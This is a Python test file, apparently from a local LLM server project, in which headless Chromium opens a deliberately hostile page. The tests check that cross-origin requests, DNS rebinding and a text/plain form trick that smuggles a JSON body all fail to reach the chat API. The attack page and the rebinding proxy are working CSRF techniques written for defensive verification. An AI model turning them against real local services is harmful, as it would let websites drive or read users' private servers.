"""A real Chromium, in which the owner has an evil page open: it can neither read from the server nor make it work.

The page runs every attempt that a page can make and posts what it saw to the server it came from. Three ways in:
another origin on loopback, another site, and DNS rebinding (the page's own name suddenly means this server: what the
attacker's DNS does is done here by its server, which passes everything after the page on to the real one, byte for
byte). A control proves that the same page succeeds where it is at home, so a refusal is not just a broken page.
"""
import http.server
import json
import os
import shutil
import socket
import subprocess
import threading
import unittest

import harness

CHROMIUM = os.environ.get("CRESSET_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
if not CHROMIUM:
    harness.skip_file("chromium is not there; `tools/setup --test` installs it")

# Every attempt ends as "read N" (the page saw status N and the body), "opaque" (something came back, unreadable) or
# "blocked" (the browser let nothing through).
PAGE = """<!doctype html><meta charset="utf-8"><title>kittens</title><body><script>
const target = TARGET, body = JSON.stringify(BODY);
const attempt = async (path, options) => {
  try {
    const response = await fetch(target + path, options);
    if (response.type === 'opaque') return 'opaque';
    const text = await response.text();
    return 'read ' + response.status + (text.includes('local/') || text.includes('"choices"') ? ' with content' : '');
  } catch (error) { return 'blocked'; }
};
const post = (type, more) => ({method: 'POST', body, headers: type ? {'Content-Type': type} : {}, ...more});
const form = enctype => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', action: target + '/v1/chat/completions', enctype, target: frame.name});
  const input = document.createElement('input');
  // As text/plain this is a JSON body: the = of the form is hidden in a string.
  input.name = body.slice(0, -1) + ',"user":"';
  input.value = '"}';
  form.append(input);
  document.body.append(frame, form);
  frame.onload = () => { if (frame.dataset.sent) done(readable(frame)); };
  frame.dataset.sent = 'yes';
  form.submit();
});
const readable = frame => {
  try { return frame.contentDocument.body.textContent.includes('"choices"') ? 'read with content' : 'loaded'; }
  catch (error) { return 'opaque'; }
};
const tag = name => new Promise(done => {
  const element = document.createElement(name);
  element.onload = () => done('loaded');
  element.onerror = () => done('blocked');
  element.src = target + '/v1/models';
  document.body.append(element);
});
(async () => {
  const chat = '/v1/chat/completions', seen = {};
  seen['get'] = await attempt('/v1/models', {});
  seen['get no-cors'] = await attempt('/v1/models', {mode: 'no-cors'});
  seen['metrics'] = await attempt('/metrics', {});
  seen['post simple'] = await attempt(chat, post('text/plain'));
  seen['post simple no-cors'] = await attempt(chat, post('text/plain', {mode: 'no-cors'}));
  seen['post untyped no-cors'] = await attempt(chat, post(null, {mode: 'no-cors'}));
  seen['post json'] = await attempt(chat, post('application/json'));
  seen['post json no-cors'] = await attempt(chat, post('application/json', {mode: 'no-cors'}));
  seen['post with a key'] = await attempt(chat, post('application/json', {headers: {'Authorization': 'Bearer x', 'Content-Type': 'application/json'}}));
  seen['beacon'] = navigator.sendBeacon(target + chat, new Blob([body], {type: 'text/plain'})) ? 'opaque' : 'blocked';
  seen['image'] = await tag('img');
  seen['script'] = await tag('script');
  seen['form text/plain'] = await form('text/plain');
  seen['form urlencoded'] = await form('application/x-www-form-urlencoded');
  fetch(REPORT, {method: 'POST', mode: 'no-cors', body: JSON.stringify(seen)});
})();
</script>"""


class EvilSite:
    """Serves the page and takes its report. With `passes_to`, every other request is passed on to that port unread."""

    def __init__(self, make_page, passes_to=None):
        self.seen = None
        self.reported = threading.Event()
        self.reports = self.listen(None)
        self.pages = self.listen(passes_to)
        self.page = make_page(f"'http://127.0.0.1:{self.reports.server_address[1]}/'").encode()
        self.port = self.pages.server_address[1]

    def listen(self, passes_to):
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):  # HTTP/1.0: a connection ends with its answer
            def handle(self):
                start = self.connection.recv(65536, socket.MSG_PEEK)
                if passes_to is None or start.startswith((b"GET / ", b"GET /favicon")):
                    super().handle()
                elif start:
                    site.pass_on(self.connection, passes_to)

            def do_GET(self):
                self.answer(200 if self.path == "/" else 404, site.page if self.path == "/" else b"")

            def do_POST(self):
                site.seen = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.answer(200, b"")
                site.reported.set()

            def answer(self, status, body):
                self.send_response(status)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server

    def pass_on(self, client, port):
        """Everything that comes on this connection, and what the real server says to it."""
        with socket.create_connection(("127.0.0.1", port), timeout=60) as real:
            def forward():
                try:
                    while piece := client.recv(65536):
                        real.sendall(piece)
                except OSError:
                    pass

            threading.Thread(target=forward, daemon=True).start()
            try:
                while piece := real.recv(65536):
                    client.sendall(piece)
            except OSError:
                pass

    def close(self):
        for server in (self.pages, self.reports):
            server.shutdown()
            server.server_close()


class Browser(harness.ServedTest):
    def open(self, url, site=None, rules=""):
        """What Chromium's document at `url` is in the end; waits for the page's report when there is one."""
        profile = self.home.path / f"profile-{os.urandom(4).hex()}"
        process = subprocess.Popen(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             "--disable-dev-shm-usage", "--no-proxy-server", f"--user-data-dir={profile}",
             f"--host-resolver-rules={rules}",
             *(["--remote-debugging-port=0"] if site else ["--dump-dom", "--virtual-time-budget=5000"]), url],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
            env=harness.environment(self.home.path), start_new_session=True)
        try:
            if site:
                self.assertTrue(site.reported.wait(120), "the page did not report")
                return site.seen
            return process.communicate(timeout=120)[0].decode()
        finally:
            process.terminate()
            try:
                process.wait(30)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
            if process.stdout:
                process.stdout.close()

    def visit(self, host, target_is_own, rules=""):
        """The report of the page opened at http://HOST, and what the server had to work meanwhile."""
        target = "''" if target_is_own else f"'http://127.0.0.1:{self.server.port}'"
        body = json.dumps(harness.chat_body("Say yes.", max_tokens=2))
        site = EvilSite(lambda report: PAGE.replace("TARGET", target).replace("BODY", body).replace("REPORT", report),
                        self.server.port if target_is_own else None)
        self.addCleanup(site.close)
        before = self.work()
        seen = self.open(f"http://{host}:{site.port}/", site, rules)
        self.server.wait_idle()
        return seen, self.work() - before

    def work(self):
        return self.server.metric("vllm:prompt_tokens_total") + self.server.metric("vllm:generation_tokens_total")

    def refusals(self):
        return sum(self.server.metric("cresset_http_requests_total", f'status="{status}"') for status in (403, 405, 415))

    def assert_nothing_was_had(self, seen, work):
        self.assertEqual(work, 0, seen)
        for attempt, outcome in seen.items():
            self.assertNotIn("content", outcome, (attempt, seen))
            self.assertNotRegex(outcome, "^read 2", (attempt, seen))

    def test_the_page_works_where_it_is_at_home(self):
        seen, work = self.visit("localhost", target_is_own=True)
        self.assertEqual((seen["get"], seen["post json"]), ("read 200 with content", "read 200 with content"), seen)
        self.assertGreater(work, 0)
        # Even at home a form or an untyped body is no API call.
        self.assertEqual(seen["post simple"], "read 415", seen)

    def test_a_page_of_another_origin(self):
        refused = self.refusals()
        seen, work = self.visit("127.0.0.1", target_is_own=False)  # another port: another origin, the same site
        self.assert_nothing_was_had(seen, work)
        self.assertTrue(all(o in ("blocked", "opaque") for o in seen.values()), seen)
        self.assertGreaterEqual(self.refusals() - refused, 6, seen)  # it was the server that refused

    def test_a_page_of_another_site(self):
        refused = self.refusals()
        seen, work = self.visit("evil.example", target_is_own=False, rules="MAP evil.example 127.0.0.1")
        self.assert_nothing_was_had(seen, work)
        self.assertTrue(all(o in ("blocked", "opaque") for o in seen.values()), seen)
        self.assertGreaterEqual(self.refusals() - refused, 6, seen)

    def test_dns_rebinding(self):
        seen, work = self.visit("rebind.example", target_is_own=True, rules="MAP rebind.example 127.0.0.1")
        self.assert_nothing_was_had(seen, work)
        for attempt in ("get", "metrics", "post json", "post with a key"):
            self.assertEqual(seen[attempt], "read 403", seen)  # same origin, so it reads: the refusal

    def test_the_server_opened_under_a_foreign_name(self):
        url = f"http://rebind.example:{self.server.port}/v1/models"
        document = self.open(url, rules="MAP rebind.example 127.0.0.1")
        self.assertIn("host_not_allowed", document)
        self.assertNotIn("local/", document)


if __name__ == "__main__":
    harness.main()
